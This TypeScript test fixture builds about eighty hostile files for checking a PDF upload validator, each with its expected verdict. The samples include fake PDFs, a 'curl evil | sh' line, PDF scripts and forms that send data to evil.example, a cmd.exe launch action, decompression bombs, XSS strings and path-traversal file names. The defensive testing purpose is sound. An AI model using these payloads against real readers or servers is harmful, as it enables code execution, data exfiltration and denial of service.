// Owns eighty files that mean no good, made byte by byte: what pretends to be a PDF, what is one and wants to harm, what breaks readers.
import { deflateSync } from 'node:zlib';
import { deck, deckObjects, firstExtra } from './decks.ts';
import { lockedDeck } from './locked-decks.ts';
import { deflated, type PdfObject, pdf, stream } from './pdf-bytes.ts';

/** Refused with one of these codes, or accepted (`shown`). */
export type Verdict = 'shown' | `pdf-${string}` | 'not-a-pdf';
export interface AttackFile {
  title: string;
  bytes: Buffer;
  fileName?: string;
  verdicts: readonly Verdict[];
  /** It would be drawn at last: nobody waits for it. */
  drawsLong?: boolean;
}

const good = deck({ pages: 2 });
const megabyte = 1024 * 1024;
const one = (title: string, bytes: Buffer | string, ...verdicts: Verdict[]): AttackFile => ({
  title,
  bytes: Buffer.from(bytes as string, 'latin1'),
  verdicts,
});

/** A page over a content, with further objects from number 5 on. */
const page = (content: Buffer, resources = '', further: readonly PdfObject[] = [], box = '0 0 960 540') =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << ${resources} >> >>`,
    content,
    ...further,
  ]);

function pretenders(): AttackFile[] {
  const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1'), Buffer.alloc(60)]);
  const heads: [string, string | Buffer][] = [
    ['an HTML page', '<!doctype html><script>fetch("/api/accounts/me")</script>'],
    ['HTML that is a PDF further down', '<html><!--\n%PDF-1.7 --><script>alert(1)</script>'],
    ['an archive', zip],
    ['a GIF', 'GIF89a/*\x01\x00*/=1;'],
    ['a PNG', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR'],
    ['a JPEG', '\xff\xd8\xff\xe0\0\x10JFIF'],
    ['a program for Linux', '\x7fELF\x02\x01\x01'],
    ['a program for Windows', 'MZ\x90\0\x03'],
    ['a shell script', '#!/bin/sh\ncurl evil | sh\n'],
    ['SVG with a script', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['XML with an entity that grows', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]>'],
    ['RTF', '{\\rtf1\\ansi'],
    ['PostScript', '%!PS-Adobe-3.0\nsystemdict /quit get exec'],
    ['a JavaScript module', 'export default 1;//'],
  ];
  return [
    ...heads.map(([title, head]) => one(title, Buffer.concat([Buffer.from(head as string, 'latin1'), good]), 'not-a-pdf')),
    one('nothing at all', '', 'pdf-empty'),
    one('one byte', '%', 'not-a-pdf'),
    one('a header without a version', '%PDF-', 'not-a-pdf'),
    one('a header in small letters', '%pdf-1.7\n', 'not-a-pdf'),
    one('a header in UTF-16', Buffer.from('\ufeff%PDF-1.7', 'utf16le'), 'not-a-pdf'),
    one('a thousand blanks before a page', `${' '.repeat(1000)}%PDF-1.7`, 'not-a-pdf'),
    one('zeros', Buffer.alloc(megabyte), 'not-a-pdf'),
    one('an archive behind a PDF', Buffer.concat([good, zip]), 'shown'),
    one('a page of HTML behind a PDF', Buffer.concat([good, Buffer.from('<script>alert(1)</script>')]), 'shown'),
    one('a script in a comment of a PDF', pdf(deckObjects({ pages: 1 }), { header: '%PDF-1.7 */alert(1)/*' }), 'shown'),
    one('a mark of order before a PDF', pdf(deckObjects({ pages: 1 }), { before: Buffer.from('\ufeff') }), 'shown'),
  ];
}

function broken(): AttackFile[] {
  const pagesOf = (pages: string, ...further: string[]) => pdf(['<< /Type /Catalog /Pages 2 0 R >>', pages, ...further]);
  const cuts = [9, 64, 300, 700, good.length - 400, good.length - 60, good.length - 5];
  const nested = (open: string, close: string, times: number) => `${open.repeat(times)}${close.repeat(times)}`;
  return [
    // Without its last line a reader finds its way all the same.
    ...cuts.map((length, index) =>
      one(`cut after ${length} bytes`, good.subarray(0, length), index === cuts.length - 1 ? 'shown' : 'pdf-damaged'),
    ),
    one(
      'random bytes under a header',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), deflateSync(Buffer.alloc(3 * megabyte, 'x'))]),
      'pdf-damaged',
    ),
    one('no catalog', pdf(['<< /Type /Pages /Count 0 /Kids [] >>'], { root: 9 }), 'pdf-damaged'),
    one('a catalog that is a text', pdf(['(catalog)']), 'pdf-damaged'),
    one('no page', pagesOf('<< /Type /Pages /Count 0 /Kids [] >>'), 'pdf-empty'),
    one('a page tree that holds itself', pagesOf('<< /Type /Pages /Count 3 /Kids [2 0 R] >>'), 'pdf-damaged'),
    one(
      'pages that hold each other',
      pagesOf('<< /Type /Pages /Count 2 /Kids [3 0 R] >>', '<< /Type /Pages /Count 2 /Kids [2 0 R] >>'),
      'pdf-damaged',
    ),
    one('pages that are nowhere', pagesOf('<< /Type /Pages /Count 3 /Kids [7 0 R 8 0 R 9 0 R] >>'), 'pdf-damaged'),
    one('a negative number of pages', pagesOf('<< /Type /Pages /Count -5 /Kids [] >>'), 'pdf-empty'),
    one('as many pages as there are grains of sand', pagesOf('<< /Type /Pages /Count 999999999999 /Kids [] >>'), 'pdf-empty'),
    one('a number of pages that is a name', pagesOf('<< /Type /Pages /Count /Many /Kids [] >>'), 'pdf-empty'),
    one('a table that points before itself', pdf(deckObjects({ pages: 1 }), { trailer: '/Prev -1' }), 'shown'),
    one('a table that points to itself', loopingTable(), 'shown'),
    one(
      'a table that points far away',
      Buffer.from(good.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1'),
      'shown',
    ),
    one(
      'arrays in arrays',
      pdf(['<< /Type /Catalog /Pages 2 0 R /X 3 0 R >>', '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', nested('[', ']', 200_000)]),
      'pdf-damaged',
    ),
    one('dictionaries in dictionaries', pdf([nested('<< /Type /Catalog /Pages ', ' >>', 100_000)]), 'pdf-damaged'),
    one(
      'a stream as long as it says it is not',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Length 99999999 >>\nstream\nx\nendstream']),
      'pdf-damaged',
    ),
    one(
      'an object stream that extends itself',
      pdf(['<< /Type /Catalog /Pages 3 0 R >>', deflated('3 0 << >>', '/Type /ObjStm /N 1 /First 4 /Extends 2 0 R')]),
      'pdf-damaged',
    ),
  ];
}

function loopingTable(): Buffer {
  const plain = pdf(deckObjects({ pages: 1 })).toString('latin1');
  const start = /startxref\n(\d+)/.exec(plain)?.[1] ?? '0';
  return Buffer.from(plain.replace('trailer\n<<', `trailer\n<< /Prev ${start}`), 'latin1');
}

function bombs(): AttackFile[] {
  const many = Buffer.alloc(300 * megabyte, '0 0 m ');
  const nine = (bytes: Buffer) => deflateSync(bytes, { level: 9 });
  const twice = nine(nine(Buffer.alloc(200 * megabyte)));
  const tree = ['<< /Type /Catalog /Pages 3 0 R >>'];
  const hidden = '/Type /ObjStm /N 2 /First 10';
  const image = (filter: string, bytes: Buffer | string, size: number) =>
    page(stream('960 0 0 540 0 0 cm /I Do'), '/XObject << /I 5 0 R >>', [
      stream(
        bytes,
        `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /ColorSpace /DeviceGray /BitsPerComponent 8 ${filter}`,
      ),
    ]);
  return [
    one('ten thousand and one pages', deck({ pages: 10_001 }), 'pdf-too-many-pages'),
    one('one page too many', deck({ pages: 501 }), 'pdf-too-many-pages'),
    {
      ...one('a page that is 300 MB when it is opened', page(stream(nine(many), '/Filter /FlateDecode')), 'shown'),
      drawsLong: true,
    },
    one(
      'objects that are 300 MB when they are opened',
      pdf([...tree, stream(nine(many), `/Filter /FlateDecode ${hidden}`)]),
      'pdf-damaged',
      'pdf-too-slow',
    ),
    one(
      'objects compressed twice',
      pdf([...tree, stream(twice, `/Filter [/FlateDecode /FlateDecode] ${hidden}`)]),
      'pdf-damaged',
      'pdf-too-slow',
    ),
    one(
      'objects of run lengths',
      pdf([...tree, stream(Buffer.alloc(2 * megabyte, Buffer.from([129, 0x20])), `/Filter /RunLengthDecode ${hidden}`)]),
      'pdf-damaged',
      'pdf-too-slow',
    ),
    one('a picture of ten thousand million points', image('', 'x', 100_000), 'shown'),
    one('a JPEG 2000 that is none', image('/Filter /JPXDecode', '\0\0\0\x0cjP  \r\n\x87\n', 30_000), 'shown'),
    one('a JBIG2 that is none', image('/Filter /JBIG2Decode', '\0\0\0\0\x30\0\x01\0\0\0\x13\xff\xff\xff\xff', 30_000), 'shown'),
    one(
      'a drawing that draws itself',
      page(stream('/F Do'), '/XObject << /F 5 0 R >>', [
        stream('/F Do /F Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>'),
      ]),
      'shown',
    ),
    one(
      'a pattern of the smallest tiles',
      page(stream('/Pattern cs /P scn 0 0 960 540 re f'), '/Pattern << /P 5 0 R >>', [
        stream(
          '0 0 1 1 re f',
          '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>',
        ),
      ]),
      'shown',
    ),
    one('a page as wide as a country', page(stream(''), '', [], '0 0 99999999 99999999'), 'shown'),
    one('a page without a width', page(stream(''), '', [], '0 0 0 0'), 'shown'),
    one('a page of numbers that are none', page(stream(''), '', [], '0 0 /A (b)'), 'shown'),
  ];
}

function actions(): AttackFile[] {
  const script = '<< /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example"\\)) >>';
  const acts: [string, string][] = [
    ['a script when it is opened', `/OpenAction ${script}`],
    ['a program to launch', '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'],
    ['an address to go to', '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>'],
    ['a form to send', '/OpenAction << /S /SubmitForm /F (https://evil.example/) /Flags 4 >>'],
    ['another file to open', '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
    ['a script when it is closed', `/AA << /WC ${script} /WP ${script} >>`],
    ['scripts by name', `/Names << /JavaScript << /Names [(x) ${script}] >> >>`],
    ['a form that is a program', '/AcroForm << /Fields [] /NeedAppearances true /XFA 6 0 R >>'],
    [
      'a file inside',
      '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>] >> >>',
    ],
  ];
  return acts.map(([title, catalog]) =>
    one(
      title,
      deck({ pages: 1, catalog, extra: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>')] }),
      'shown',
    ),
  );
}

const unknownLock = 'a lock that nobody knows';

/** With keys that fit nothing. */
function jammed(): AttackFile[] {
  const id = '/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]';
  const long = (byte: string, times: number) => `<${byte.repeat(times)}>`;
  const ways: [string, string][] = [
    ['40 bits', `/V 1 /R 2 /O ${long('ab', 32)} /U ${long('cd', 32)}`],
    ['128 bits', `/V 2 /R 3 /Length 128 /O ${long('ab', 32)} /U ${long('cd', 32)}`],
    [
      'AES',
      `/V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF /StrF /StdCF /O ${long('ab', 32)} /U ${long('cd', 32)}`,
    ],
    [
      'AES of 256 bits',
      `/V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF /O ${long('ab', 48)} /U ${long('cd', 48)} /OE ${long('ab', 32)} /UE ${long('cd', 32)} /Perms ${long('ab', 16)}`,
    ],
    [unknownLock, '/V 99 /R 99'],
  ];
  const objects = deckObjects({ pages: 1 });
  return ways.map(([title, way]) => {
    const lock = `<< /Filter /Standard /P -4 ${way} >>`;
    return one(
      `locked by ${title}`,
      pdf([...objects, lock], { trailer: `/Encrypt ${firstExtra(1)} 0 R ${id}` }),
      title === unknownLock ? 'pdf-damaged' : 'pdf-encrypted',
    );
  });
}

/** With keys that fit. Whoever needs no password to read it is kept from nothing here: only printing and changing are forbidden. */
const locked = (): AttackFile[] => [
  one('locked by a password', lockedDeck('secret', 'another'), 'pdf-encrypted'),
  one('locked by a password that only its owner needs', lockedDeck('', 'another'), 'shown'),
];

/** Good files under names that want to be something else. */
function names(): AttackFile[] {
  const bad = [
    '../../../../etc/cron.d/evil.pdf',
    '..\\..\\windows\\evil.pdf',
    'a\0b.pdf',
    'invoice\u202Efdp.exe',
    `${'x'.repeat(300)}.pdf`,
    'a\r\nSet-Cookie: a=b.pdf',
    '',
    '..',
    '"; filename="evil.exe',
    '%2e%2e%2fetc%2fpasswd',
    '<img src=x onerror=alert(1)>.pdf',
    '\u2066\u200f\u200b.pdf',
  ];
  return bad.map((fileName, index) => ({
    ...one(`called ${JSON.stringify(fileName).slice(0, 40)}`, deck({ pages: 1, seed: 100 + index }), 'shown'),
    fileName,
  }));
}

export const attackFiles = (): AttackFile[] => [
  ...pretenders(),
  ...broken(),
  ...bombs(),
  ...actions(),
  ...jammed(),
  ...locked(),
  ...names(),
];
